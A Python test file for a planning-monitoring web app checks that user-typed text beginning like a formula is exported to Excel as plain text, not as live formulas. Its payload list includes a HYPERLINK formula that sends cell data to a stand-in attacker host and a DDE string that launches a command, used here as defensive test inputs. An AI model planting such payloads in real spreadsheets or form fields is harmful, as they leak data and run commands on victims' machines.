"""Text people typed never becomes a live formula in a workbook the system writes: export.xlsx and template.xlsx
use the report's rule (planwatch.document.spreadsheet.neutralise)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from planwatch.web.monitoring.models import Observation
from tests.web.conftest import indicator

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
]


def _cells(content: bytes, sheet: str) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(content))
    return [tuple(cell for cell in row) for row in workbook[sheet].iter_rows()]


def test_sources_and_notes_that_start_a_formula_are_exported_as_text(planner, plan):
    target = indicator(8)
    for year, payload in zip(range(2021, 2026), PAYLOADS, strict=True):
        Observation.objects.create(
            indicator=target, year=year, value=1, measure="level", source=payload, note=payload, series="临港"
        )
    rows = _cells(planner.get("/monitoring/export.xlsx").content, "监测值")
    exported = [
        row for row in rows if row[1].value == target.name and row[8].value in {"'" + p for p in PAYLOADS}
    ]
    assert len(exported) == 5
    for row in exported:
        assert all(cell.data_type != "f" for cell in row)
        assert row[8].value == row[15].value and row[8].value.startswith("'")


def test_an_indicator_name_that_starts_a_formula_is_text_in_the_template(kewei, plan):
    target = indicator(8)
    target.name = "=1+1 研发投入"
    target.save()
    rows = _cells(kewei.get("/monitoring/template.xlsx").content, "监测值填报")
    names = [row[1] for row in rows[1:] if row[0].value == 8]
    assert names and all(cell.value == "'=1+1 研发投入" and cell.data_type == "s" for cell in names)
